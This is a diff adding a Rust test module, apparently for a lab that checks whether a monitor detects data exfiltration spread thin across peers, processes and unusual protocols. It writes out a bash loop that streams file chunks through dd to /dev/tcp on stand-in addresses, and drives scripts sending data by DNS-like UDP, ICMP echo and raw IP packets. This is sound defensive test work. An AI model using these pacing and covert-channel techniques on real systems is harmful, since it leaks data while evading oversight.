@@ -1,0 +1,113 @@
+//! Pace and spread (TECHNIQUES 1I), and odd protocols (1G): no packet, process or peer carries much.
+
+use std::{
+    net::{IpAddr, Ipv4Addr, SocketAddr},
+    process::Command,
+};
+
+use tests::lab::{KIB, MIB, outside::UNCONTROLLED};
+
+use super::tooling::{descendant, ok};
+use crate::{
+    expect::Expected,
+    world::{Test, World, size},
+};
+
+pub(crate) const TESTS: &[Test] = &[
+    ("twenty_peers_below_the_line", twenty_peers),
+    ("three_hundred_processes_below_the_line", three_hundred_processes),
+    ("dns_like_datagrams", dns_like_datagrams),
+    ("icmp_echo", |w| packets(w, 1, "icmp")),
+    ("unassigned_ip_protocol", |w| packets(w, 253, "other")),
+];
+
+/// Where the many listen.
+const PORT: u16 = 7000;
+
+/// Two megabytes to each of twenty addresses, by one process.
+fn twenty_peers(w: &mut World) {
+    let mut scene = w.prepare_sized(1, 40 * MIB);
+    let peers = addresses(&scene.world.outside, 20);
+    scene.start();
+    let source = &scene.model.files[0];
+    let receiver = ok(scene.world.outside.tcp_many(PORT, 20));
+    let script = include_str!("scripts/spread.py");
+    let mut command = scene.python("spread.py", script);
+    let thief =
+        scene.run(command.arg(source).arg(PORT.to_string()).args(peers.iter().map(ToString::to_string)));
+    let bytes = ok(receiver.finish()).bytes;
+    assert_eq!(bytes, size(source));
+    let expected = [Expected::drip(&scene, &thief, bytes)];
+    scene.expect(&expected);
+}
+
+/// 128 KiB by each of three hundred processes that share a shell, to five addresses.
+fn three_hundred_processes(w: &mut World) {
+    World::needs("bash");
+    let mut scene = w.prepare_sized(1, 40 * MIB);
+    let peers = addresses(&scene.world.outside, 5);
+    scene.start();
+    let source = &scene.model.files[0];
+    let receiver = ok(scene.world.outside.tcp_many(PORT, 300));
+    let names: Vec<String> = peers.iter().map(ToString::to_string).collect();
+    let text = format!(
+        "i=0; for round in $(seq 60); do for ip in {}; do dd if={} bs=128K skip=$i count=1 status=none > /dev/tcp/$ip/{PORT}; \
+         i=$((i + 1)); done; done",
+        names.join(" "),
+        source.display()
+    );
+    let shell = scene.run(Command::new("bash").args(["-c", &text]));
+    let bytes = ok(receiver.finish()).bytes;
+    assert_eq!(bytes, 300 * 128 * KIB);
+    let expected = [Expected::drip(&scene, &descendant(&shell, "dd"), bytes)];
+    scene.expect(&expected);
+}
+
+/// Further addresses of the outside.
+fn addresses(outside: &tests::lab::outside::Outside, count: u8) -> Vec<Ipv4Addr> {
+    let peers: Vec<Ipv4Addr> = (0..count).map(|n| Ipv4Addr::new(198, 51, 100, 20 + n)).collect();
+    for peer in &peers {
+        ok(outside.add_address(*peer));
+    }
+    peers
+}
+
+const QUERY: u64 = 500;
+const QUERY_HEADER: u64 = 12;
+
+/// Questions of some hundred bytes to port 53.
+fn dns_like_datagrams(w: &mut World) {
+    let scene = w.scene();
+    let source = &scene.model.files[0];
+    let addr = SocketAddr::from((UNCONTROLLED, 53));
+    let sent = size(source) + size(source).div_ceil(QUERY) * QUERY_HEADER;
+    let receiver = ok(scene.world.outside.udp_at(addr, sent));
+    let script = include_str!("scripts/packets.py");
+    let mut command = scene.python("packets.py", script);
+    let thief =
+        scene.run(command.arg(source).arg(UNCONTROLLED.to_string()).arg("dns").arg(QUERY.to_string()));
+    assert_eq!(ok(receiver.finish()).bytes, sent);
+    // The headers come on top of what was taken, and no bound is above that.
+    let expected = [Expected::egress(&scene, &thief, addr, "udp", size(source))];
+    scene.expect(&expected);
+}
+
+const PAYLOAD: u64 = 1400;
+const ECHO_HEADER: u64 = 8;
+
+/// Packets of an IP protocol without ports, through a raw socket.
+fn packets(w: &mut World, protocol: u8, name: &str) {
+    let scene = w.scene();
+    let source = &scene.model.files[0];
+    let header = if protocol == 1 { ECHO_HEADER } else { 0 };
+    let sent = size(source) + size(source).div_ceil(PAYLOAD) * header;
+    let receiver = ok(scene.world.outside.raw(protocol, sent));
+    let script = include_str!("scripts/packets.py");
+    let mut command = scene.python("packets.py", script);
+    let words = [UNCONTROLLED.to_string(), protocol.to_string(), PAYLOAD.to_string()];
+    let thief = scene.run(command.arg(source).args(words));
+    assert_eq!(ok(receiver.finish()).bytes, sent);
+    let peer: (IpAddr, u16) = (UNCONTROLLED, 0);
+    let expected = [Expected::egress(&scene, &thief, peer.into(), name, size(source))];
+    scene.expect(&expected);
+}
